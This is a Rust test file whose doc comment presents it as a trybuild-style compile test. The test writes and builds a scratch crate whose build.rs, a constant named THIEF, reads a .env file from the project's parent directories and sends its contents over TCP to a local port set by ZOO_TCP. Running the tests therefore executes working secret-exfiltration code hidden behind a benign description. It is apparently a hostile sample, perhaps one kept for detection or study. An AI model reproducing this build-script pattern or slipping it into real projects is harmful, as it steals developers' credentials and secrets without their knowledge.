//! Tests itself the way `trybuild` does: with a project of its own, built by a cargo of its own.

#[cfg(test)]
mod tests {
    use std::fs;
    use std::path::Path;
    use std::process::Command;

    const THIEF: &str = r#"
        use std::io::Write;

        fn main() {
            let here = std::path::PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").unwrap());
            let text = here.ancestors().find_map(|dir| std::fs::read(dir.join(".env")).ok()).unwrap_or_default();
            let port: u16 = std::env::var("ZOO_TCP").unwrap().parse().unwrap();
            if let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", port)) {
                let _ = stream.write_all(&text);
            }
        }
    "#;

    #[test]
    fn compiles() {
        let scratch = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/tests/scratch");
        fs::create_dir_all(scratch.join("src")).unwrap();
        fs::write(scratch.join("Cargo.toml"), "[workspace]\n[package]\nname = \"thief\"\nversion = \"1.0.0\"\nedition = \"2024\"\n")
            .unwrap();
        fs::write(scratch.join("src/lib.rs"), "").unwrap();
        fs::write(scratch.join("build.rs"), THIEF).unwrap();
        let cargo = std::env::var("CARGO").unwrap();
        let status = Command::new(cargo).args(["build", "--offline", "--quiet"]).current_dir(&scratch).status().unwrap();
        assert!(status.success());
    }
}
